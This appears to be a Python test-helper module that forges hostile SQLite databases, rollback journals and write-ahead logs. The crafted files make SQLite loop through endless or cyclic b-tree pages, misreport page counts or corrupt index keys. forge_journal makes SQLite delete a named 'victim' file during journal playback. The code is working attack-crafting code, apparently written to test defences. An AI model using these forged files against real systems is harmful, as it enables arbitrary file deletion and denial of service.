"""Databases that SQLite would read for ever, or that make it delete a file: only an attacker writes such pages."""

from __future__ import annotations

import sqlite3
import struct
from contextlib import closing
from pathlib import Path

LEVELS = 10
_ENTRIES = 600  # of a page; 600 ** 10 steps never end
_MAGIC = bytes.fromhex("d9d505f920a163d7")


def forge_journal(database: Path, victim: str) -> None:
    """Write a database and a rollback journal that names a file, which SQLite deletes once it has played it back."""
    made(database, "CREATE TABLE x (a)")
    size, pages = _pages(database)
    head = (_MAGIC + struct.pack(">IIIII", 0, 1, len(pages), 512, size)).ljust(512, b"\0")
    name = victim.encode()
    end = struct.pack(">I", (1 << 30) // size + 1) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    database.with_name(f"{database.name}-journal").write_bytes(head + end)


def forge_length(database: Path, pages: int, *, sized: bool) -> None:
    """Write a rollback journal beside a database which says that the database had so many pages.

    Args:
        database: the file, without a log.
        pages: the number.
        sized: whether the journal names the size of a page.
    """
    size = _pages(database)[0] if sized else 0
    head = (_MAGIC + struct.pack(">IIIII", 0, 0, pages, 512, size)).ljust(512, b"\0")
    database.with_name(f"{database.name}-journal").write_bytes(head)


def forge_log(database: Path, pages: int) -> None:
    """Let the last frame of a write-ahead log say that the database has so many pages (file format, section 4).

    Args:
        database: the file, with a log.
        pages: the number.
    """
    log = database.with_name(f"{database.name}-wal")
    data = bytearray(log.read_bytes())
    (size,) = struct.unpack(">I", data[8:12])
    order = ">" if data[3] & 1 else "<"
    sums = struct.unpack(">II", data[24:32])
    # Those with other salts are left from before the log began anew.
    frames = [place for place in range(32, len(data), 24 + size) if data[place + 8 : place + 16] == data[16:24]]
    for begin in frames:
        if begin == frames[-1]:
            data[begin + 4 : begin + 8] = struct.pack(">I", pages)
        sums = _checksum(data[begin : begin + 8] + data[begin + 24 : begin + 24 + size], sums, order)
        data[begin + 16 : begin + 24] = struct.pack(">II", *sums)
    log.write_bytes(data)


def _checksum(data: bytes, before: tuple[int, ...], order: str) -> tuple[int, ...]:
    first, second = before
    for one, two in struct.iter_unpack(f"{order}II", data):
        first = (first + one + second) & 0xFFFFFFFF
        second = (second + two + first) & 0xFFFFFFFF
    return first, second


def forge_rows(database: Path, tree: str) -> None:
    """Let all pages of a table or an index lead to its first one again and again.

    Args:
        database: the file, without a log. The table has a row.
        tree: the name of the table or index.
    """
    with closing(sqlite3.connect(database)) as connection:
        found = connection.execute("SELECT type, rootpage FROM sqlite_master WHERE name = ?", [tree])
        kind, root = found.fetchone()
    size, pages = _pages(database)
    leaf = pages[root - 1]
    number, key = (5, b"\1") if kind == "table" else (2, b"\4\3\17\1a")
    pages[root - 1] = _inner(number, len(pages) + 1, key, size)
    pages += [_inner(number, len(pages) + level + 1, key, size) for level in range(1, LEVELS)]
    _write(database, [*pages, leaf])


def forge_depth(database: Path, tree: str, levels: int) -> None:
    """Let a table lead to its rows through thousands of pages, each of which is used once.

    Args:
        database: the file, without a log, whose schema fits into a small page.
        tree: the name of the table.
        levels: the number of these pages.
    """
    with closing(sqlite3.connect(database)) as connection:
        connection.executescript("PRAGMA page_size = 512; VACUUM")
        ((root,),) = connection.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", [tree])
    size, pages = _pages(database)
    leaf = pages[root - 1]
    pages[root - 1] = _inner(5, len(pages) + 1, b"", size, count=0)
    pages += [_inner(5, len(pages) + level + 1, b"", size, count=0) for level in range(1, levels)]
    _write(database, [*pages, leaf])


def forge_key(database: Path, index: str, key: str, other: str) -> None:
    """Write another key of the same length into the entry that an index has for a row.

    Args:
        database: the file, without a log.
        index: the name of the index, which fits into one page.
        key: the key of the row.
        other: the one to write.
    """
    with closing(sqlite3.connect(database)) as connection:
        ((root,),) = connection.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", [index])
    _, pages = _pages(database)
    assert pages[root - 1].count(key.encode()) == 1
    pages[root - 1] = pages[root - 1].replace(key.encode(), other.encode())
    _write(database, pages)


def forge_schema(database: Path, schema: str) -> None:
    """Write a database whose schema has the row of an index again and again. The schema is one table with an index."""
    made(database, schema)
    size, pages = _pages(database)
    first = pages[0]
    table, index = struct.unpack(">HH", first[108:112])
    begin = len(pages) + 3
    pages += [_leaf(first, table), _leaf(first, index)]
    pages += [_inner(5, begin + level + 1, b"\1", size) for level in range(LEVELS - 1)]
    pages += [pages[begin - 2]]
    pages[0] = first[:100] + _inner(5, begin - 2, b"\1", size - 100, last=begin, count=1, begin=100)
    _write(database, pages)


def made(database: Path, schema: str) -> None:
    """Make a database without a log."""
    with closing(sqlite3.connect(database)) as connection:
        connection.executescript(f"PRAGMA page_size = 16384; {schema}")


def _pages(database: Path) -> tuple[int, list[bytes]]:
    data = database.read_bytes()
    (size,) = struct.unpack(">H", data[16:18])
    return size, [data[begin : begin + size] for begin in range(0, len(data), size)]


def _write(database: Path, pages: list[bytes]) -> None:
    first = pages[0]
    database.write_bytes(b"".join([first[:28] + struct.pack(">I", len(pages)) + first[32:], *pages[1:]]))


def _inner(
    kind: int, child: int, key: bytes, size: int, *, last: int = 0, count: int = _ENTRIES, begin: int = 0
) -> bytes:
    """A page of a tree that leads to another one `count` times, and then to `last`.

    Args:
        kind: the number of its kind, 5 for tables and 2 for indexes.
        child: the number of the other page.
        key: how each entry goes on.
        size: of the page in bytes, behind what is before it.
        last: the number of the last page; `child` if it is 0.
        count: how many entries it has.
        begin: how many bytes are before it.
    """
    cell = struct.pack(">I", child) + key
    first = size - count * len(cell)
    places = [begin + first + number * len(cell) for number in range(count)]
    head = struct.pack(f">BHHHBI{count}H", kind, 0, count, begin + first, 0, last or child, *places)
    return head.ljust(first, b"\0") + cell * count


def _leaf(page: bytes, place: int) -> bytes:
    """A page with one row of the schema, whose cells have the same places as in the first page."""
    return struct.pack(">BHHHBH", 13, 0, 1, place, 0, place).ljust(200, b"\0") + page[200:]
